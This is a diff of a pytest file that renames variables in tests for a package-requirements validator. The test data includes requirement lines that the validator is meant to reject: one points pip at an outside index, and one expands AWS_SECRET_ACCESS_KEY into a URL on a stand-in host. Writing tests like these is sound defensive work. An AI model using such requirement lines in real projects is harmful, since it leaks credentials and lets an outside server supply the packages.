@@ -36,7 +36,7 @@ def test_the_server_is_always_there_in_the_images_version_unless_another_is_name
 
 
 @pytest.mark.parametrize(
-    ("says", "line"),
+    ("message", "line"),
     [
         ("not an option", "-r other.txt"),
         ("not an option", "six --index-url https://elsewhere.example/simple"),
@@ -49,11 +49,11 @@ def test_the_server_is_always_there_in_the_images_version_unless_another_is_name
         ("a variable", "six @ https://elsewhere.example/${AWS_SECRET_ACCESS_KEY}"),
     ],
 )
-def test_a_requirement_has_no_options(says: str, line: str) -> None:
+def test_a_requirement_has_no_options(message: str, line: str) -> None:
     """They would say where every package comes from, or send secrets there."""
     (problem,) = requirement_problems(Environment(requirements=["six", line]))
     assert "spec.server.entryScript.environment.requirements[1]" == problem.path
-    assert says in problem.message
+    assert message in problem.message
 
 
 @pytest.mark.parametrize(
@@ -110,8 +110,8 @@ def test_uv_uses_the_configuration_of_pip(tmp_path: Path) -> None:
         "SSL_CERT_FILE": "/ca.pem",
     }
     assert expected == {name: variables.get(name) for name in expected}
-    own = {"UV_INDEX_URL": "http://127.0.0.1:7/simple", "SSL_CERT_FILE": "/own.pem"}
-    variables = uv_settings(own, tmp_path, tmp_path)
+    pip_variables = {"UV_INDEX_URL": "http://127.0.0.1:7/simple", "SSL_CERT_FILE": "/own.pem"}
+    variables = uv_settings(pip_variables, tmp_path, tmp_path)
     assert [] == [name for name in ("UV_DEFAULT_INDEX", "UV_INDEX_URL", "SSL_CERT_FILE") if name in variables]
 
 
